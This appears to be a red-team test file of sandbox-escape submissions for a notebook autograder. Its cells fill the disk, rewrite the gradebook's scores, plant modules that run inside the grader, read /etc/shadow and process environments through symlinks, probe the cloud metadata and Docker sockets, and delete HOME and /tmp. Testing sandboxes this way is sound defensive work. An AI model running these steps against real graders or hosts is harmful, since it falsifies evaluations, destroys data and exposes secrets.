# %% attack: fills_the_disk
"""Writes files until the disk is full.

mark: 0
"""

import itertools

for number in itertools.count():
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(2**20))

# %% attack: writes_the_gradebook
"""Gives itself 150 points, and the others none, in the database.

mark: 0
"""

import glob
import os
import sqlite3

candidates = [
    "gradebook.db",
    *("../" * i + "gradebook.db" for i in range(8)),
    *glob.glob("/*/gradebook.db"),
    *glob.glob("/*/*/gradebook.db"),
]
for path in candidates:
    if os.path.exists(path):
        print("ESCAPED: found", path)
        sqlite3.connect(path).execute("update grade set auto_score = 150")
for name in ("JUPYTERHUB_API_TOKEN", "PGPASSWORD", "DATABASE_URL", "GRADING_SECRET"):
    if name in os.environ:
        print("ESCAPED: the environment has", name)

# %% attack: writes_to_the_environment
"""Changes the Python environment, so that the next submission, or the grader, runs other code.

mark: 0
"""

import os
import sys

for folder in (
    *sys.path,
    sys.base_prefix,
    os.path.dirname(os.__file__),
    os.path.dirname(np.__file__),
    "/usr/lib",
    "/etc",
    "/",
):
    try:
        if folder:
            with open(f"{folder}/sitecustomize.py", "w") as file:
                file.write("print('ESCAPED')")
            print("ESCAPED: wrote into", folder)
    except OSError:
        pass
for executable in (sys.executable, "/proc/self/exe", "/usr/bin/env"):
    try:
        open(executable, "r+b")
        print("ESCAPED: may write", executable)
    except OSError:
        pass

# %% attack: runs_a_classmates_notebook
"""Runs another student's file, and the instructor's, in its own place.

mark: 0
"""
import glob
import os

for start in (".", "..", "../..", "/tmp", "/home", "/srv", "/mnt", "/work", "/root", os.environ["HOME"]):
    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*/*.ipynb"):
        for path in glob.glob(f"{start}/{pattern}"):
            print("ESCAPED: found", path)
            get_ipython().run_line_magic("run", path)

# %% attack: uses_the_network
"""Connects to the machine's own services, to the network, and to a Unix socket of the host.

mark: 0
"""
import os
import socket

for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("169.254.169.254", 80), ("8.8.8.8", 53)):
    try:
        with socket.socket() as connection:
            connection.settimeout(1)
            if connection.connect_ex(address) == 0:
                print("ESCAPED: connected to", address)
    except OSError as error:
        print(error)
try:
    socket.create_connection(("example.org", 80), timeout=1)
    print("ESCAPED: connected to the network")
except OSError:
    pass
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix"):
    if os.path.exists(path):
        print("ESCAPED: sees", path)

# %% attack: links_to_the_outside
"""Makes links to what lies outside of the sandbox, and reads through them.

mark: 0
"""
import os

for target in (
    "/etc/passwd",
    "/etc/shadow",
    "/proc/1/environ",
    "/var",
    "/srv",
    "../../../../etc/passwd",
):
    os.symlink(target, "link")
    try:
        if os.path.isdir("link") and os.listdir("link"):
            print("ESCAPED: sees", target)
        elif open("link").read():
            print("ESCAPED: reads", target)
    except OSError:
        pass
    os.remove("link")
    try:
        os.link(target, "hard")
        print("ESCAPED: a hard link to", target)
    except OSError:
        pass

# %% attack: looks_for_the_seed
"""Looks for what the hidden inputs are drawn from: in the environment, in files, in random states.

mark: 0
"""
import gc
import os

if any("SEED" in name or "SECRET" in name for name in os.environ):
    print("ESCAPED: the environment has a seed")
for thing in gc.get_objects():
    if isinstance(thing, dict) and "HIDDEN_TESTS_SEED" in {key for key in thing if isinstance(key, str)}:
        print("ESCAPED: found the seed")

# %% attack: leaves_modules_for_the_examiner
"""Writes modules that the tests import into its folder and into every folder of the path.

mark: 0
"""
import sys

for folder in ("", ".", *sys.path):
    for module in ("numpy", "gdcore", "time", "usercustomize"):
        try:
            with open(f"{folder or '.'}/{module}.py", "w") as file:
                file.write("print('ESCAPED: runs in the examiner')")
        except OSError:
            pass

# %% attack: changes_a_data_file
"""Deletes its folder and all that it can, and stands in a folder that is no more.

mark: 3
"""
import os
import shutil

os.makedirs("deep/folder")
os.chdir("deep/folder")
shutil.rmtree(os.environ["HOME"], ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)


def square(x):
    return x * x


# %% attack: listens_for_the_examiner
"""Opens sockets by name and without a file, where a careless examiner might connect.

mark: 0
"""
import socket

for address in ("\0grading", "\0jupyter", "/tmp/socket"):
    with socket.socket(socket.AF_UNIX) as server:
        try:
            server.bind(address)
            server.listen()
        except OSError as error:
            print(error)
with socket.socket(socket.AF_UNIX) as client:
    for address in (
        "\0/tmp/.X11-unix/X0",
        "\0/run/systemd/private",
        "/run/systemd/notify",
        "/run/dbus/system_bus_socket",
    ):
        if client.connect_ex(address) == 0:
            print("ESCAPED: connected to", address)
